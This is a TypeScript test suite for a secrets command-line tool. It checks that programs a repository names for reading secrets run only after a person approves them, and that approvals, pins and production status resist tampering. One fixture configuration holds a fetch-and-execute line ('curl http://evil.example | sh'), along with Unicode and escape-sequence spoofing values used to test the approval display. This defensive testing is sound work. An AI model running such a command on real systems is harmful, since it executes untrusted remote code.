/** What a repository brings runs only after somebody has seen it. */
import assert from 'node:assert/strict';
import { chmodSync, cpSync, existsSync, mkdirSync, readFileSync, readdirSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test, type TestContext } from 'node:test';
import type { Terminal } from '../../server/src/cli/command';
import { readSettings } from '../../server/src/host/settingsFile';
import { approvals, approve, pendingApprovals, Stores, trustRequest, userFolders } from '../../server/src/stores';
import { environmentFor, productionOf } from '../../server/src/stores/familyScope';
import { lasthopWaiting, type CommandResult } from '../support/commandLine';
import { fake } from '../support/fakes';
import { storeWorld, writeProgram, type StoreWorld } from '../support/fakePrograms';
import { textOf } from '../support/repository';
import { matchesSnapshot } from '../support/snapshot';

interface TrustWorld extends StoreWorld {
  run(argv: readonly string[], more?: Partial<Terminal>, folder?: string): Promise<CommandResult>;
  configure(text: string): void;
  hash(): string;
}

const command = 'stores:\n  one-password:\n    read: [op, read, "{reference}"]\n';

function trustWorld(context: TestContext, configuration: string = command): TrustWorld {
  const world = storeWorld(context);
  const configure = (text: string): void => writeFileSync(join(world.root, '.lasthop.yaml'), text);
  configure(configuration);
  world.program('op', 'printf value');
  return {
    ...world, configure,
    run: (argv, more = {}, folder = world.root) => lasthopWaiting(folder, argv, { environment: world.environment, ...more }),
    hash: () => trustRequest(world.root, readSettings(world.root).settings)?.hash ?? '',
  };
}

const person = (answer: string | undefined): Partial<Terminal> => ({ canAsk: true, ask: () => Promise.resolve(answer) });
const get = ['get', 'op://dev/api-stripe/secret_key'];

test('nothing runs until a person has said yes', async (context) => {
  const world = trustWorld(context);
  world.program('op', `touch '${world.folder}/ran'; printf value`);
  const before = await world.run(get);
  assert.deepEqual([before.status, before.output, before.said], [2, '', 'lasthop: This repository says how 1Password is read, and nobody has approved that on this machine. See what it would run, and approve it: lasthop trust\n']);
  assert.ok(!existsSync(join(world.folder, 'ran')));
  for (const answer of ['', 'n', undefined, 'yes please']) assert.equal((await world.run(['trust'], person(answer))).said, 'lasthop: Nothing was approved.\n');
  assert.equal((await world.run(get)).status, 2);
  assert.match((await world.run(['trust'], person('y'))).output, /Approved\./);
  assert.equal((await world.run(get)).output, 'value');
  assert.match((await world.run(['trust'])).output, /This was approved already\.\n$/);
  assert.equal((await world.run(['trust', '--revoke'])).status, 0);
  assert.equal((await world.run(get)).status, 2);
  const log = (await world.run(['audit'])).output;
  assert.match(log, / approve /);
  assert.match(log, / revoke /);
});

test('without a terminal only the very hash that was printed will do', async (context) => {
  const world = trustWorld(context);
  const { status, output, said } = await world.run(['trust']);
  assert.deepEqual([status, said], [2, `lasthop: There is nobody to ask. If you have read the above: lasthop trust --accept ${world.hash()}\n`]);
  assert.ok(output.includes(`Content: ${world.hash()}\n`));
  for (const wrong of ['', 'yes', world.hash().slice(0, 63), `${world.hash()}0`]) assert.equal((await world.run(['trust', '--accept', wrong])).status, 2);
  assert.equal((await world.run(get)).status, 2);
  assert.equal((await world.run(['trust', '--accept', world.hash()])).status, 0);
  assert.equal((await world.run(get)).output, 'value');
});

test('every change of what matters asks again, no other does', async (context) => {
  const world = trustWorld(context);
  const trusted = async (): Promise<boolean> => (await world.run(get)).status === 0;
  const accept = (): Promise<CommandResult> => world.run(['trust', '--accept', world.hash()]);
  await accept();
  assert.ok(await trusted());
  world.configure(`service: api\nrules: { unused-key: off }\n${command}`);
  assert.ok(await trusted(), 'a rule is nobody’s program');
  for (const changed of [
    command.replace('read, "', 'read, --no-newline, "'), `${command}    timeout: 7\n`, `${command}    place: Team\n`, `${command}    write: [op, x]\n`,
    `${command}  vals:\n    read: [vals]\n`, `${command}environments:\n  dev:\n    pin: { account: other }\n`,
  ]) {
    world.configure(changed);
    assert.ok(!(await trusted()), changed);
  }
  world.configure(command);
  assert.ok(await trusted(), 'what was approved once stays approved');
});

test('what an extended file says counts, and so do scripts of the repository', async (context) => {
  const world = trustWorld(context, 'extends: base.yaml\n');
  const trusted = async (): Promise<boolean> => (await world.run(get)).status === 0;
  const write = (name: string, text: string): void => { mkdirSync(join(world.root, 'tools'), { recursive: true }); writeFileSync(join(world.root, name), text); };
  write('base.yaml', command);
  assert.ok(!(await trusted()));
  await world.run(['trust', '--accept', world.hash()]);
  assert.ok(await trusted());
  write('base.yaml', command.replace('[op, read', '[op, evil'));
  assert.ok(!(await trusted()));
  for (const words of ['./tools/get', 'tools/get', 'sh, tools/get', 'sh, "{root}/tools/get"', 'op, --config=tools/get']) {
    write('base.yaml', `stores: { one-password: { read: [${words}, "{reference}"] } }`);
    writeProgram(join(world.root, 'tools/get'), 'printf good');
    await world.run(['trust', '--accept', world.hash()]);
    assert.ok(await trusted(), words);
    writeProgram(join(world.root, 'tools/get'), 'printf evil');
    assert.ok(!(await trusted()), words);
  }
});

test('in a repository of several services, what lies beside the service counts too', async (context) => {
  const world = trustWorld(context);
  mkdirSync(join(world.root, '.git'));
  writeFileSync(join(world.root, '.git/HEAD'), 'ref: refs/heads/main\n');
  const api = join(world.root, 'services/api');
  mkdirSync(api, { recursive: true });
  writeFileSync(join(api, '.lasthop.yaml'), 'stores: { one-password: { read: [../../get, "{reference}"] } }\n');
  writeProgram(join(world.root, 'get'), 'printf good');
  const hash = trustRequest(api, readSettings(api).settings)?.hash ?? '';
  assert.equal((await world.run(['trust', '--accept', hash], {}, api)).status, 0);
  assert.equal((await world.run(get, {}, api)).output, 'good');
  writeProgram(join(world.root, 'get'), 'printf evil');
  assert.equal((await world.run(get, {}, api)).status, 2);
  // Nor does its `node_modules/.bin` lend a program.
  writeFileSync(join(api, '.lasthop.yaml'), 'stores: { one-password: { read: [lent, "{reference}"] } }\n');
  mkdirSync(join(world.root, 'node_modules/.bin'), { recursive: true });
  writeProgram(join(world.root, 'node_modules/.bin/lent'), 'printf evil');
  await world.run(['trust', '--accept', trustRequest(api, readSettings(api).settings)?.hash ?? ''], {}, api);
  const environment = { ...world.environment, PATH: `${world.root}/node_modules/.bin:${world.environment.PATH}` };
  assert.match((await world.run(get, { environment }, api)).said, /except inside this repository/);
});

test('another folder with the same text is another approval; another name of the folder is not', async (context) => {
  const world = trustWorld(context);
  await world.run(['trust', '--accept', world.hash()]);
  const clone = join(world.folder, 'clone');
  cpSync(world.root, clone, { recursive: true });
  assert.equal((await world.run(get, {}, clone)).status, 2);
  assert.equal((await world.run(['trust', '--accept', world.hash()], {}, clone)).status, 0, 'its content has the same name');
  assert.equal((await world.run(get, {}, clone)).output, 'value');
  symlinkSync(world.root, join(world.folder, 'link'));
  assert.equal((await world.run(get, {}, join(world.folder, 'link'))).output, 'value');
  assert.deepEqual(approvals(userFolders(world.environment)).map(({ root }) => root), [clone, world.root]);
  const listed = (await world.run(['trust', '--list'])).output.split('\n');
  assert.equal(listed.length, 3);
  assert.match(listed[0] ?? '', new RegExp(`^\\d{4}-\\d\\d-\\d\\d  ${world.hash().slice(0, 12)}  .*/clone$`));
});

test('approvals are the person’s own: outside the repository, readable by nobody else, and no file of a repository', async (context) => {
  const world = trustWorld(context);
  await world.run(['trust', '--accept', world.hash()]);
  const folder = join(world.folder, 'home/trusted');
  const [file = ''] = readdirSync(folder);
  assert.equal(statSync(join(folder, file)).mode & 0o777, 0o600);
  assert.deepEqual(readdirSync(world.root), ['.lasthop.yaml']);
  // A broken or moved approval approves nothing.
  const text = readFileSync(join(folder, file), 'utf8');
  for (const broken of ['', '{', 'null', '{"root":7}', text.replace(/"hash":"[^"]*"/, '"hash":"0"')]) {
    writeFileSync(join(folder, file), broken);
    assert.equal((await world.run(get)).status, 2, broken);
  }
});

test('what is shown is what would run', async (context) => {
  const world = trustWorld(context, [
    'environments:', '  prod:', '    production: true', '    pin: { account: "123456789012" }',
    'stores:', '  vault:', '    place: team', '    timeout: 5', '    read: [tools/get, "--config=settings.json", "{path}", "a b", "it\'s \\"quoted\\""]',
    '  one-password:', '    read: [op, "re\\u0430d", "\\u202Egnp.exe", "tab\\there\\e[2K", ""]', '    list: [sh, -c, "curl http://evil.example | sh"]', '',
  ].join('\n'));
  mkdirSync(join(world.root, 'tools'));
  writeProgram(join(world.root, 'tools/get'), 'printf x');
  writeFileSync(join(world.root, 'settings.json'), '{}');
  const { output } = await world.run(['trust']);
  matchesSnapshot(output.replaceAll(world.root, '/the/repository'), 'stores/snapshots/trust.txt');
});

test('kinds and paths need no approval', async (context) => {
  const world = trustWorld(context, 'service: api\nstore: lasthop\nstores: { lasthop: { folder: secrets } }\npaths: { vault: "{environment}/{service}" }\n');
  assert.deepEqual(await world.run(['trust']), { status: 0, output: 'This repository brings no programs and places: there is nothing to approve.\n', said: '' });
  assert.deepEqual(pendingApprovals(world.root, readSettings(world.root).settings, world.environment), []);
});

test('the user’s own configuration needs no approval, outweighs the repository’s, and must be the user’s', async (context) => {
  const world = trustWorld(context);
  const own = join(world.folder, 'home/config.yaml');
  world.program('mine', 'printf mine');
  writeFileSync(own, 'stores:\n  one-password:\n    read: [mine, "{reference}"]\nenvironments:\n  prod:\n    pin: { account: mine }\n', { mode: 0o600 });
  assert.equal((await world.run(get)).output, 'mine');
  const { settings } = readSettings(world.root);
  assert.deepEqual(pendingApprovals(world.root, settings, world.environment), []);
  const { prod } = Stores.open({ root: world.root, settings, environment: world.environment }).settings.environments;
  assert.deepEqual(prod, { aliases: ['production', 'prd', 'live'], production: true, pin: { account: 'mine' } });
  chmodSync(own, 0o666);
  assert.match((await world.run(get)).said, /^lasthop: Others can change .*config\.yaml, and with it the programs that run for you\. Take that away first: chmod go-w /);
  chmodSync(own, 0o600);
  writeFileSync(own, 'stores: [\n');
  assert.match((await world.run(get)).said, /config\.yaml:\d+ is not valid YAML\. Mend it/);
  // A relative program of the user's own lies beside the user's file, never in the repository.
  writeFileSync(own, 'stores: { one-password: { read: [./tool] } }');
  writeProgram(join(world.root, 'tool'), 'printf theirs');
  assert.match((await world.run(get)).said, /tool, which reads .* is not on this machine/);
  writeProgram(join(world.folder, 'home/tool'), 'printf mine');
  assert.equal((await world.run(get)).output, 'mine');
});

test('a repository neither removes nor replaces a pin of the user’s, nor goes round it', async (context) => {
  const world = trustWorld(context, 'service: api\n');
  writeFileSync(join(world.folder, 'home/config.yaml'), 'environments:\n  dev: { pin: { account: mine } }\n  prod: { pin: { account: live } }\n', { mode: 0o600 });
  const inForce = () => Stores.open({ root: world.root, settings: readSettings(world.root).settings, environment: world.environment }).settings;
  for (const theirs of [
    '', 'environments: {}\n', 'environments: { dev: { pin: {} }, prod: { production: false, pin: {} } }\n', 'environments: { prod: { production: false } }\n',
    'environments: { dev: { pin: { account: theirs } }, prod: { pin: { account: theirs } } }\n', 'environments: { dev: [local], prod: [live] }\n',
    'environments: { sandbox: [dev], open: { aliases: [prod, dev] } }\n', 'environments: { sandbox: { aliases: [prod], pin: { account: theirs } } }\n',
  ]) {
    world.configure(`service: api\n${theirs}`);
    const [dev, prod] = [environmentFor(inForce(), undefined), environmentFor(inForce(), 'prod')];
    assert.ok(dev.ok && prod.ok, theirs);
    assert.deepEqual([dev.value.name, dev.value.pin, dev.value.production], ['dev', { account: 'mine' }, false], theirs);
    assert.deepEqual([prod.value.name, prod.value.pin, prod.value.production], ['prod', { account: 'live' }, true], theirs);
    assert.equal(productionOf('prod/api/stripe/secret_key', inForce()), 'prod', theirs);
  }
});

test('a pin of the repository’s spares the question only when it was approved', async (context) => {
  const pinned = 'environments: { dev: { pin: { place: Team } } }\n';
  const world = trustWorld(context, pinned);
  writeFileSync(join(world.folder, 'home/config.yaml'), 'stores: { one-password: { place: Team, read: [op, "{reference}"] } }\n', { mode: 0o600 });
  writeFileSync(join(world.root, '.env'), 'API_KEY=op://dev/api-stripe/secret_key\n');
  world.program('show', 'printf %s "$API_KEY"');
  const run = (more: Partial<Terminal> = {}): Promise<CommandResult> => world.run(['run', '--', 'true'], more);
  const asked: string[] = [];
  const no: Partial<Terminal> = { canAsk: true, ask: (question) => { asked.push(question); return Promise.resolve('n'); } };
  assert.match((await run()).said, /place Team, which nobody has confirmed for dev on this machine.* approve the pin of \.lasthop\.yaml \(lasthop trust\)/);
  assert.match((await run(no)).said, /The account was not confirmed/);
  assert.equal(asked.length, 1);
  world.configure(pinned.replace('Team', 'Other'));
  assert.match((await run(no)).said, /speaks to place Team, but dev is pinned to Other \(\.lasthop\.yaml\): nothing was read/);
  assert.equal(asked.length, 1, 'a wrong account is refused, not asked about');
  world.configure(pinned);
  // The same where one secret is asked for, and where one is set.
  for (const argv of [get, ['set', '--store', 'one-password', 'dev/api/stripe/key']]) assert.match((await world.run(argv, { input: 'value' } as Partial<Terminal>)).said, /place Team, which nobody has confirmed for dev/);
  writeFileSync(join(world.root, 'pay.js'), `const stripeKey = '${fake('stripe-live-key')}';\n`);
  const move = await world.run(['move', '--all', '--store', 'one-password']);
  assert.match(move.said, /place Team, which nobody has confirmed for dev.* Nothing was changed\./);
  await world.run(['trust', '--accept', world.hash()]);
  assert.deepEqual((await run()).said, '');
  assert.equal((await world.run(get)).output, 'value');
  await world.run(['trust', '--revoke']);
  writeFileSync(join(world.folder, 'home/config.yaml'), 'stores: { one-password: { place: Team, read: [op, "{reference}"] } }\nenvironments: { dev: { pin: { place: Team } } }\n', { mode: 0o600 });
  assert.deepEqual((await run()).said, '', 'the user’s own pin needs nobody');
});

test('production stays production until the user says otherwise', async (context) => {
  const world = trustWorld(context);
  writeFileSync(join(world.root, '.env.example'), '# @sensitive @path={env}/api/stripe/key\nSTRIPE_KEY=\n');
  const inForce = () => Stores.open({ root: world.root, settings: readSettings(world.root).settings, environment: world.environment }).settings;
  const demoting: readonly (readonly [string, string])[] = [
    ['prod: { production: false }', 'prod'], ['production: []', 'production'], ['live: { production: false, aliases: [prd] }', 'live'],
    ['dev: [local, prod, production]', 'prod'], ['prod-eu: {}', 'prod-eu'], ['dev: []', 'prod'], ['dev: [Production]', 'production'], ['us_production: []', 'us_production'],
  ];
  for (const [said, word] of demoting) {
    world.configure(`service: api\nenvironments: { ${said} }\n`);
    const settings = inForce();
    assert.ok(productionOf(`${word}/api/stripe/key`, settings) !== undefined, said);
    assert.ok(productionOf(`ref+vault://secret/${word}/api/stripe/key#/value`, settings) !== undefined, said);
    const named = environmentFor(settings, word);
    assert.ok(!named.ok || named.value.production, said);
    assert.deepEqual(pendingApprovals(world.root, readSettings(world.root).settings, world.environment), [], 'nobody is kept from dev by it');
  }
  // Where the environment stands otherwise, a template does not take production away.
  world.configure('paths: { "*": "secret/{service}/{environment}/{provider}/{purpose}", lasthop: "{service}/{environment}/{provider}/{purpose}" }\n');
  assert.equal(productionOf('ref+lasthop://prod/dev/stripe/key', inForce()), 'prod');
  assert.equal(productionOf('ref+lasthop://api/prod/stripe/key', inForce()), 'prod');
  for (const staging of ['preprod', 'pre-prod', 'non-prod', 'staging', 'dev', 'product', 'reproduction']) assert.equal(productionOf(`${staging}/api/a/b`, inForce()), undefined, staging);

  world.configure('service: api\nenvironments: { prod: { production: false, aliases: [production] } }\n');
  const fetch = (): Promise<CommandResult> => world.run(['fetch', '--env', 'prod']);
  for (const argv of [['fetch', '--env', 'production'], ['run', '--env', 'production', '--', 'true']]) {
    assert.match((await world.run(argv)).said, /^lasthop: prod is production: .*\nlasthop: \.lasthop\.yaml calls production no production, which counts only once you have approved it: lasthop trust\n$/);
  }
  assert.match((await world.run(['doctor'])).output, /calls prod no production/);
  assert.match((await world.run(['trust'])).output, /environment prod\n +production no, and its names are production: /);
  await world.run(['trust', '--accept', world.hash()]);
  assert.doesNotMatch((await fetch()).said, /is production/);
  assert.equal(productionOf('production/api/stripe/key', inForce()), undefined);
  await world.run(['trust', '--revoke']);
  world.configure('service: api\n');
  writeFileSync(join(world.folder, 'home/config.yaml'), 'environments: { prod: { production: false } }\n', { mode: 0o600 });
  assert.equal(productionOf('prod/api/stripe/key', inForce()), undefined, 'the user decides');
});

test('the examples of the page are configurations that work', async (context) => {
  const world = trustWorld(context, '');
  const blocks = [...textOf('docs/stores.md').matchAll(/```yaml\n([^`]*)```/g)].map((match) => match[1] ?? '');
  assert.equal(blocks.length, 2);
  for (const block of blocks) {
    writeFileSync(join(world.folder, 'home/config.yaml'), block, { mode: 0o600 });
    for (const provider of block.match(/(?<=^ {2})[a-z-]+(?=:)/gm) ?? []) {
      const stores = Stores.open({ root: world.root, settings: readSettings(world.root).settings, environment: world.environment });
      assert.ok(stores.get(provider).ok, provider);
    }
    assert.equal((await world.run(get)).status, block.includes('one-password') ? 0 : 2);
  }
});

test('an editor asks what is pending and approves it', (context) => {
  const world = trustWorld(context);
  const { settings } = readSettings(world.root);
  const [request, ...more] = pendingApprovals(world.root, settings, world.environment);
  assert.ok(request && more.length === 0);
  assert.deepEqual(request.demands, [{ of: 'one-password', what: 'read', words: ['op', 'read', '{reference}'] }]);
  approve(request, world.environment);
  assert.deepEqual(pendingApprovals(world.root, settings, world.environment), []);
});
